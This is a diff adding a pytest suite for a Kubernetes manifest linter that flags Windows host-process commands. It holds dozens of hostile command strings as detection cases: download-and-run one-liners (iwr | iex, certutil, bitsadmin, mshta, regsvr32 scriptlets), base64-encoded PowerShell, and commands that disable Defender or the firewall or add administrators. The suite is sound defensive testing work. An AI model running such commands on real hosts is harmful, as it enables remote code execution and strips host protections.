@@ -1,0 +1,261 @@
+"""What a command line runs: downloads, code that is hidden, scripts that are mounted, and what weakens a node."""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+from pathlib import Path
+from typing import Any
+
+import pytest
+from scanning import report, scan_text
+from test_commands import NEW, OLD, found, handler, pod, rules
+
+from hostprocess_lint.rules.downloads import remote_code
+from hostprocess_lint.rules.script import plain, statements
+
+RUN = [
+    "iwr -UseBasicParsing https://x/a.ps1 | iex",
+    "Invoke-WebRequest https://x/a.ps1 | Select-Object -Expand Content | Invoke-Expression",
+    "curl https://x/a.sh | powershell -",
+    "iex (iwr https://x/a?b=1&c=2;d)",
+    "iex ((New-Object Net.WebClient).DownloadString('https://x'))",
+    "irm x | % { iex $_ }",
+    "I`wr https://x | i`ex",
+    r"iwr https://x/a.exe -OutFile C:\a.exe; C:\a.exe /S",
+    "iwr https://x -OutFile $f; & $f",
+    "iwr https://x -OutFile $f\n. $f",
+    r"(New-Object Net.WebClient).DownloadFile('https://x/a.exe', 'C:\t\a.exe'); Start-Process C:\t\a.exe",
+    "$wc.DownloadFile($u, $f); if ($x) { & $f }",
+    r"curl.exe -o C:\a.ps1 https://x/a.ps1 && powershell -File C:\a.ps1",
+    "curl -LO https://x/a.exe; ./a.exe",
+    r"certutil -urlcache -f https://x/a.exe a.exe & .\a.exe",
+    r"bitsadmin /transfer j https://x/a.exe C:\a.exe & C:\a.exe",
+    r"Start-BitsTransfer -Source https://x/a.msi -Destination C:\a.msi; msiexec /i C:\a.msi /qn",
+    r"iwr https://x/a.zip -OutFile a.zip; Expand-Archive a.zip -DestinationPath C:\a; C:\a\bin\setup.exe",
+    r"iwr https://x/a -OutFile a.tmp; Move-Item a.tmp C:\b.exe; C:\b.exe",
+    "$s = irm https://x; iex $s",
+    "$s = irm https://x; $s.Content | iex",
+    "msiexec.exe /i https://x/a.msi",
+    "mshta https://x/a.hta",
+    "mshta vbscript:Close(x)",
+    "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll",
+    r"\\srv\share\a.exe -x",
+    r"powershell -File \\srv\share\a.ps1",
+    r"rundll32 \\srv\share\a.dll,Main",
+    "git clone https://raw.githubusercontent.com/a/b/main/x.ps1",
+]
+NOT_RUN = [
+    "iwr https://x/health -UseBasicParsing",
+    "$r = iwr https://x; if ($r.StatusCode -ne 200) { exit 1 }; $r | Out-Null",
+    r"curl https://x -o C:\a.yml; Get-Content C:\a.yml",
+    r"iwr https://x/a.exe -OutFile C:\a.exe; Get-FileHash C:\a.exe; Test-Path C:\a.exe",
+    r"Copy-Item \\srv\share\a C:\a; C:\b.exe",
+    r"\\.\pipe\x",
+    "Write-Host https://x; iex $y",
+    "agent.exe --url=http://x | more",
+    r"msiexec /i C:\a.msi",
+    "curling.exe https://x | iexplore",
+    "https://raw.githubusercontent.com/a/b/v1.2.3/x.ps1",
+]
+
+
+@pytest.mark.parametrize("text", RUN)
+def test_what_is_downloaded_and_run(text: str) -> None:
+    assert list(remote_code(plain(text)))
+    assert found(pod(command=["powershell", "-Command", text]))[-1] in [
+        ("HPC411", "warning", f"command[{place}]") for place in (0, 2)
+    ]
+    assert "HPC411" in rules(pod(command=["powershell", "-Command", text]), OLD)
+
+
+@pytest.mark.parametrize("text", NOT_RUN)
+def test_what_is_not(text: str) -> None:
+    assert list(remote_code(plain(text))) == []
+    assert "HPC411" not in rules(pod(command=["powershell", "-Command", text]))
+
+
+def test_the_words_are_read_as_one_line() -> None:
+    words = ["powershell", "iwr", "https://x", "|", "iex"]
+    assert found(pod(command=words), OLD) == [("HPC411", "warning", "command[1]")]
+    assert found(pod(command=words[:2], args=words[2:]), OLD) == [("HPC411", "warning", "command[1]")]
+    assert found(pod(command=["\\\\srv\\share\\a.exe"])) == [("HPC411", "warning", "command[0]")]
+
+
+def test_probes_and_hooks_are_read() -> None:
+    text = "irm https://x | iex"
+    probe = pod(startupProbe=handler("powershell", "-c", text))
+    assert found(probe) == [("HPC411", "warning", "startupProbe.exec.command[2]")]
+    assert rules(pod(lifecycle={"postStart": handler("powershell", "-c", text)})) == ["HPC411"]
+
+
+def encoded(text: str) -> str:
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+@pytest.mark.parametrize("option", ["-EncodedCommand", "-enc", "-e", "-ec", "/EncodedC"])
+def test_encoded_commands_are_decoded(option: str) -> None:
+    code = encoded("iwr https://x | iex")
+    assert found(pod(command=["powershell", "-nop", "-w", "hidden", option, code])) == [
+        ("HPC411", "warning", "command[5]")
+    ]
+    twice = encoded(f"powershell -enc {code}")
+    assert rules(pod(command=["powershell", option, twice])) == ["HPC411"]
+    assert rules(pod(command=["cmd", "/c", f"powershell.exe {option} {code}"])) == ["HPC411"]
+    assert rules(pod(command=["powershell", option, encoded("Get-Date")])) == []
+    assert rules(pod(command=["powershell", option, "AAAA!"])) == ["HPC413"]
+
+
+def test_what_is_no_option_of_powershell_is_not_decoded() -> None:
+    assert rules(pod(command=["powershell", "-Command", "fluent-bit.exe", "-e", "x.dll"])) == []
+    assert rules(pod(command=["powershell", "-File", "x.ps1", "-enc", "utf8"])) == []
+    assert rules(pod(command=["agent.exe", "-e", "x"])) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "hidden"),
+    [
+        ('[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("QQ==")) | iex', True),
+        ("& ([scriptblock]::Create($x))", True),
+        ("iex $env:SCRIPT", True),
+        ("Invoke-Expression ($env:SCRIPT)", True),
+        ("iex ('i' + 'ex')", True),
+        ("iex ([char[]](73,69) -join '')", True),
+        ("& $env:TOOLS\\a.exe", False),
+        ("$a = 'x' + 'y'; Write-Host $a", False),
+        ("'{0}' -f $x", False),
+        ("iex $env:CONTAINER_SANDBOX_MOUNT_POINT\\a.ps1", False),
+    ],
+)
+def test_hidden_code(text: str, hidden: bool) -> None:
+    expected = [("HPC413", "warning", "command[2]")] * hidden
+    assert [each for each in found(pod(command=["powershell", "-Command", text])) if each[0] == "HPC413"] == expected
+
+
+def test_code_of_a_variable_given_as_a_command() -> None:
+    assert rules(pod(command=["powershell", "-Command", "$env:SCRIPT"])) == ["HPC413"]
+    assert rules(pod(command=["cmd", "/c", "%SCRIPT%"])) == ["HPC413"]
+    assert rules(pod(command=["powershell", "-Command", "$env:ProgramFiles\\x.ps1"])) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "weakens"),
+    [
+        ("net localgroup Administrators x /add", True),
+        ("Add-LocalGroupMember -Group Administrators -Member x", True),
+        ("Set-MpPreference -DisableRealtimeMonitoring $true", True),
+        ("Add-MpPreference -ExclusionPath C:\\", True),
+        ("Set-NetFirewallProfile -Profile Domain,Public -Enabled False", True),
+        ("netsh advfirewall set allprofiles state off", True),
+        ("net localgroup Administrators", False),
+        ("net localgroup hpc-agents /add", False),
+        ("New-NetFirewallRule -DisplayName x -Action Allow", False),
+        ("Set-MpPreference -DisableRealtimeMonitoring $false", False),
+    ],
+)
+def test_what_weakens_a_node(text: str, weakens: bool) -> None:
+    expected = [("HPC414", "note", "args[2]")] * weakens
+    assert found(pod(args=["powershell", "-c", text])) == expected
+    assert rules(pod(args=["powershell", "-enc", encoded(text)])) == ["HPC414"] * weakens
+
+
+SCRIPT = {
+    "apiVersion": "v1",
+    "kind": "ConfigMap",
+    "metadata": {"name": "scripts"},
+    "data": {"run.ps1": "iwr https://x/a.exe -OutFile a.exe\n.\\a.exe\n", "ok.ps1": "Get-Date\n"},
+}
+VOLUMES = {"volumes": [{"name": "v", "configMap": {"name": "scripts"}}]}
+
+
+def mounting(word: str, spec: dict[str, Any] | None = None, **mount: str) -> str:
+    mounts = [{"name": "v", "mountPath": "/scripts", **mount}]
+    return pod(spec or VOLUMES, command=["powershell", "-File", word], volumeMounts=mounts)
+
+
+@pytest.mark.parametrize(
+    ("text", "reported"),
+    [
+        (mounting("C:\\scripts\\run.ps1"), True),
+        (mounting("C:\\scripts\\ok.ps1"), False),
+        (mounting("C:\\scripts\\x.ps1", mountPath="/scripts/x.ps1", subPath="run.ps1"), True),
+        (mounting("C:\\scripts\\x.ps1", mountPath="/scripts/x.ps1", subPath="ok.ps1"), False),
+        (
+            mounting(
+                "/scripts/y.ps1",
+                {
+                    "volumes": [
+                        {"name": "v", "configMap": {"name": "scripts", "items": [{"key": "run.ps1", "path": "y.ps1"}]}}
+                    ]
+                },
+            ),
+            True,
+        ),
+        (
+            mounting(
+                "/scripts/run.ps1",
+                {"volumes": [{"name": "v", "projected": {"sources": [{"configMap": {"name": "scripts"}}]}}]},
+            ),
+            True,
+        ),
+        (mounting("/scripts/run.ps1", {"volumes": [{"name": "v", "configMap": {"name": "others"}}]}), False),
+    ],
+)
+def test_mounted_scripts_are_read(text: str, reported: bool) -> None:
+    both = f"{json.dumps(SCRIPT)}\n---\n{text}\n"
+    findings = [each for each in scan_text(both, NEW).findings if each.rule == "HPC411"]
+    assert [(each.field, [other.label for other in each.related]) for each in findings] == [
+        ("spec.containers[0].command[2]", ["the script"])
+    ] * reported
+    assert all(each.location.start[0] == 3 and each.related[0].location.start[0] == 1 for each in findings)
+
+
+def test_a_script_may_stand_in_a_file_of_its_own(tmp_path: Path) -> None:
+    (tmp_path / "a.yaml").write_text(json.dumps(SCRIPT))
+    (tmp_path / "b.yaml").write_text(mounting("C:\\scripts\\run.ps1"))
+    (finding,) = [each for each in report("b.yaml", "a.yaml", cwd=tmp_path)["findings"] if each["rule"] == "HPC411"]
+    assert finding["location"]["path"] == "b.yaml"
+    assert [each["location"]["path"] for each in finding["related"]] == ["a.yaml"]
+
+
+def test_a_url_s_characters_cut_nothing() -> None:
+    assert len(statements("iwr https://x/?a=1&b=2 | iex")) == 1
+    assert [len(pipeline) for pipeline in statements("a | b; c && d\n& e")] == [2, 1, 1, 1]
+
+
+HOSTILE = [
+    *("iex ", "iwr ", "iwr;", "iwr|", "iwr -o a;a ", "certutil ", "certutil http ", "$a=", "[char]|", "powershell -e "),
+    *(
+        "https://raw.githubusercontent.com/",
+        ".downloadfile(",
+        "tar a -c b;",
+        "$(",
+        "%a",
+        '"',
+        "'",
+        "`",
+        "\\",
+        "/",
+        "& ",
+    ),
+    *("iex $env:", "-c ", "unix:", ".sock ", "a.b.svc ", "%CONTAINER_SANDBOX_MOUNT_POINT%", "frombase64string", "a=|b"),
+]
+
+
+@pytest.mark.parametrize("piece", HOSTILE)
+def test_time_grows_with_the_text(piece: str) -> None:
+    """40 kB of whatever is slow to some pattern are judged by every rule in less than a second."""
+    text = piece * (40_000 // len(piece))
+    mounts = [{"name": "v", "mountPath": "/csi"}]
+    spec = {"volumes": [{"name": "v", "hostPath": {"path": "C:\\plugins"}}]}
+    manifest = pod(
+        spec,
+        args=["powershell", "iwr -o x.exe http://x", text],
+        env=[{"name": "A", "value": text}],
+        volumeMounts=mounts,
+    )
+    for context in (NEW, OLD):
+        started = time.perf_counter()
+        scan_text(manifest, context)
+        assert time.perf_counter() - started < 1
